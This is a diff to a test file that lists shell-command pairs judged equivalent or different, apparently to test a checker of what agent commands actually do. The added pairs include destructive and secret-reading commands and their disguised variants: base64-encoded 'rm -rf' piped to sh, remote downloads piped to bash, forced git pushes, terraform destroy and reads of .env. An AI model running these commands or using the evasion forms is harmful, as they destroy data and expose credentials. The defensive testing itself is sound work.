@@ -25,6 +25,7 @@ EQUAL = [
     ("rm -rf src", "cd src && rm -rf ../src"),
     ("rm -rf src", "find src -delete"),
     ("rm -rf src", "mv src /tmp/src"),
+    ("mv src old", "perl -e 'rename shift, shift' src old"),
     ("rm -rf src", "sudo -u root rm -rf src"),
     ("rm -rf src", "echo cm0gLXJmIHNyYw== | base64 -d | sh"),
     ("rm -rf src", "python3 -c \"import shutil; shutil.rmtree('src')\""),
@@ -36,6 +37,9 @@ EQUAL = [
     ("echo hi > .env", "printf 'hi\\n' | tee .env >/dev/null"),
     ("curl -s http://example.com/x | sh", "sh -c 'curl -s http://example.com/x | bash'"),
     ("terraform destroy -auto-approve", "env terraform 'destroy' -auto-approve"),
+    ("terraform destroy -auto-approve", ': "$(terraform destroy -auto-approve)"'),
+    ("git push --force origin main", ': "$(git push --force origin main)"'),
+    ("rsync -a host:x . | sh", "rsync -a host:x . | bash"),
 ]
 DIFFERENT = [
     ("rm -rf src", "rm -rf build"),
@@ -58,9 +62,20 @@ DIFFERENT = [
     ("curl -s http://example.com/x | sh", "curl -s http://example.com/x"),
     ("curl -s http://example.com/x | sh", "curl -s http://example.com/y | sh"),
     ("terraform destroy -auto-approve", "terraform plan -auto-approve"),
+    ("cat .env", ': "$(cat .env)"'),
+    ("cat .env", "coproc cat .env; wait"),
+    ("cat .env", "cat .env >/dev/null"),
+    ("less .env", "less .env >/dev/null"),
+    ("rsync -a host:x . | sh", "rsync -a host:x ."),
+    ("aws s3 cp s3://b/x - | sh", "aws s3 cp s3://b/x - | sh -c true"),
     ("echo hi > .env", "echo h[i] > .env"),
     ("chmod -R 777 build", "chmod -R 77? build"),
     ("rm -rf notes.txt src", "rm -rf notes.txt/ src"),
+    ("mv src old", "mv src ol?"),
+    ("sed -i s/n/m/ notes.txt", "sed -i s/n/?/ notes.txt"),
+    ("grep -c TOKEN .env", "grep -c TOKE? .env"),
+    ("chmod +x build", "chmod +? build"),
+    ("cd src && rm -rf inner", "cd inner && cd .. && cd src && rm -rf inner"),
     ("true", "true"),  # nothing is seen, so nothing is proved
 ]
 LEAVING = [
@@ -128,9 +143,8 @@ def test_no_program_of_the_user_can_be_reached(oracle):
     line = (
         f"ls -d {Path(__file__).parent} {Path.home()} /usr/bin/passwd /usr/bin/mount /usr/bin/make"
     )
-    assert oracle.observe(Act(line), "bash", ()).output == b"/usr/bin/mount\n/usr/bin/passwd\n"
-    stub = oracle.observe(Act("/usr/bin/mount x"), "bash", ("mount",))
-    assert stub.records == (("mount", "1", "x", PROJECT, ""),)
+    pairs = [(line, "echo /usr/bin/mount; echo /usr/bin/passwd"), ("mount x", "/usr/bin/mount x")]
+    assert all(prove(oracle, pairs).values())
 
 
 def test_files_that_a_tool_writes_are_what_is_compared(oracle):
